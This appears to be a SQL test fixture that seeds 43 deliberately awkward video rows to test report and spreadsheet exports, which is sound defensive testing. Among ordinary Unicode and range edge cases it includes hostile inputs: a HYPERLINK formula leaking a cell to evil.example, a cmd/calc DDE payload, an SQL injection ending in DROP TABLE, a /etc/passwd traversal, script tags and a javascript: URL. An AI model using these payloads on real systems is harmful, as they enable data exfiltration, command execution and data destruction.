-- 43 rows that break careless report writers, all of tenant 6, before the generated videos. Each is a
-- failed video, so that the odd text shows in a report: it stands in title, instructor and
-- error_message. Only row 30's long_description is longer than a cell of a spreadsheet can be.

INSERT INTO videos (id, title, created_at, updated_at, tenant_id) VALUES
-- what a spreadsheet would take for a formula or a number
    (1, '=HYPERLINK("http://evil.example/?"&A1,"Click me")', @today, @today, 6),
    (2, '+1', @today, @today, 6),
    (3, '-2+3', @today, @today, 6),
    (4, '@SUM(1)', @today, @today, 6),
    (5, '＝1+1 ＋1 －1 ＠SUM(1)', @today, @today, 6),
    (6, '\t=cmd|\' /C calc\'!A0', @today, @today, 6),
    (7, '\r=1+1', @today, @today, 6),
    (8, '00123', @today, @today, 6),
-- characters that mean something in CSV, JSON or XML
    (9, '9007199254740993', @today, @today, 6),
    (10, '_x0041_ _x000D_ _X0041_ _x005F_', @today, @today, 6),
    (11, CONCAT('control ', X'01', X'0B', X'0C', X'1B', X'1F', X'7F', _utf8mb4 X'C285', ' characters'), @today, @today, 6),
    (12, CONCAT('noncharacters ', _utf8mb4 X'EFBFBE', _utf8mb4 X'EFBFBF', _utf8mb4 X'EFB790', ' end'), @today, @today, 6),
    (13, '</t></is></c> ]]> <![CDATA[x]]> &amp; &#0; <!-- --> <script>alert(1)</script>', @today, @today, 6),
    (14, '"a","b";\'c\',,""', @today, @today, 6),
    (15, 'CRLF\r\nLF\nCR\rend\n', @today, @today, 6),
-- Unicode
    (16, '👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇺🇦 1️⃣ 🧘🏿‍♂️', @today, @today, 6),
    (17, CONCAT('يوغا للظهر (', _utf8mb4 X'E280AE', 'gpj.exe', _utf8mb4 X'E280AC', ') שלום 123'), @today, @today, 6),
    (18, '日本語 中文 한국어 ไทย हिन्दी தமிழ் Ελληνικά Українська ქართული አማርኛ', @today, @today, 6),
    (19, CONCAT('Zoë Zoe', _utf8mb4 X'CC88', ' Z̸̡͔̈a̶̢͐l̵͎̈́g̷̫̏o̴̧̚ a', _utf8mb4 X'E2808B', 'b'), @today, @today, 6),
    (20, CONCAT(_utf8mb4 X'EFBBBF', 'mark', _utf8mb4 X'E280A8', 'line', _utf8mb4 X'E280A9', 'paragraph'), @today, @today, 6),
    (21, CONCAT('nul ', X'00', ' inside'), @today, @today, 6),
-- nothing, in several ways
    (22, '', @today, @today, 6),
    (23, '(all NULL)', @today, @today, 6),
    (24, CONCAT('  leading, trailing and no-break', _utf8mb4 X'C2A0', '  '), @today, @today, 6),
-- the ends of each range
    (25, 'integers over 2^53', @today, @today, 6),
    (26, 'dates before 1900', '1899-12-31 23:59:59', '1000-01-01 00:00:00', 6),
    (27, 'the last date', '9999-12-31 23:59:59', '9999-12-31 23:59:59', 6),
    (28, 'zero dates', @today, '0000-00-00 00:00:00', 6),
    (29, 'a text as long as a cell can be', @today, @today, 6),
    (30, 'a description longer than a cell can be', @today, @today, 6),
-- JSON
    (31, 'nested JSON', @today, @today, 6),
    (32, 'JSON that holds nothing', @today, @today, 6),
    (33, 'JSON numbers and escapes', @today, @today, 6),
-- texts that look like something else
    (34, 'NULL', @today, @today, 6),
    (35, '\'; DROP TABLE videos; -- ${HOME} {{7*7}} {tenant.id} :period_start ? %s %n \\N \\', @today, @today, 6),
    (36, REPEAT('\n', 300), @today, @today, 6),
    (37, '../../../etc/passwd', @today, @today, 6),
    (38, 'MARCH1 1/2 2026-13-45 TRUE 1E5 NaN', @today, @today, 6),
    (39, CONCAT('x\n2026-11-24T02:00:00Z info delivered job=failures ', X'1B', '[2K', X'1B', '[31mred'), @today, @today, 6),
    (40, 'NaN', @today, @today, 6),
-- one name for a collation, three for a person
    (41, 'Anna', @today, @today, 6),
    (42, 'ANNA', @today, @today, 6),
    (43, 'Änna ', @today, @today, 6);

UPDATE videos SET wp_post_id = id, sync_status = 'failed', instructor = LEFT(title, 255), error_message = title,
    last_processed = CAST(@today AS DATETIME) - INTERVAL id HOUR,
    created_at = IF(id IN (26, 27), created_at, CAST(@today AS DATETIME) - INTERVAL id * 11 HOUR),
    updated_at = IF(id IN (26, 27, 28), updated_at, CAST(@today AS DATETIME) - INTERVAL id HOUR),
    video_category = '["Edge"]', run_time = id
WHERE id <= 43;

UPDATE videos SET wp_post_id = 0, slug = '', instructor = '', short_description = '', long_description = '',
    error_message = '', content_tags = '[]', video_category = '[]', run_time = 0 WHERE id = 22;
UPDATE videos SET wp_post_id = NULL, instructor = NULL, error_message = NULL, last_processed = NULL,
    video_category = NULL, run_time = NULL WHERE id = 23;
UPDATE videos SET wp_post_id = 18446744073709551615, run_time = -2147483648 WHERE id = 25;
UPDATE videos SET last_processed = '1899-12-31 00:00:00', wp_created = '1900-02-28', wp_modified = '1900-03-01' WHERE id = 26;
UPDATE videos SET last_processed = '9999-12-31 23:59:59.999999', wp_created = '9999-12-31', wp_post_id = 9007199254740993 WHERE id = 27;
UPDATE videos SET last_processed = '0000-00-00 00:00:00', wp_created = '0000-00-00', wp_modified = '2026-11-00' WHERE id = 28;
UPDATE videos SET error_message = REPEAT('x', 32767), short_description = REPEAT('😀', 16383) WHERE id = 29;
UPDATE videos SET long_description = REPEAT('長い', 20000) WHERE id = 30;
UPDATE videos SET content_tags = '{"a": {"b": {"c": [[[[1, {"d": null}]]]]}}, "": "", "ключ": "значение"}',
    video_category = '[["nested"], "second"]', video_topic = '[{"name": "長い 👩‍👩‍👧‍👦", "quote": "\\"", "slash": "\\/"}]' WHERE id = 31;
UPDATE videos SET content_tags = '{}', video_category = 'null', video_topic = '[]', video_body_area_taxonomy = '[null]' WHERE id = 32;
UPDATE videos SET content_tags = '[18446744073709551615, -9223372036854775808, 0.1, 1e-7, true]',
    video_category = '["\\ud83d\\ude00 \\u0001 \\u2028 \\\\"]', video_topic = '"just a text"', video_body_area_taxonomy = '42' WHERE id = 33;

INSERT INTO video_embeddings (id, video_id, namespace, embedding_text, pinecone_id, created_at)
SELECT id * 2, id, 'titles', title, CONCAT('6-', id, '-t'), updated_at FROM videos WHERE id <= 43 AND id % 3 = 0 ORDER BY id;

INSERT INTO video_audio_previews
    (id, video_id, s3_key, s3_url, duration, audio_duration_seconds, file_size_bytes, voice_id, generation_status, created_at)
VALUES
    (2, 1, 'previews/6/1.mp3', 'javascript:alert(1)', 12345678901234.567891, 2147483647, 9223372036854775807, '=1+1', 'completed', @today),
    (4, 2, '../1/stolen.mp3', NULL, 0.000001, 0, -1, '', 'completed', @today),
    (6, 3, '', '', -0.500000, NULL, NULL, NULL, 'failed', @today),
    (8, 4, NULL, NULL, NULL, NULL, 0, NULL, '', @today);
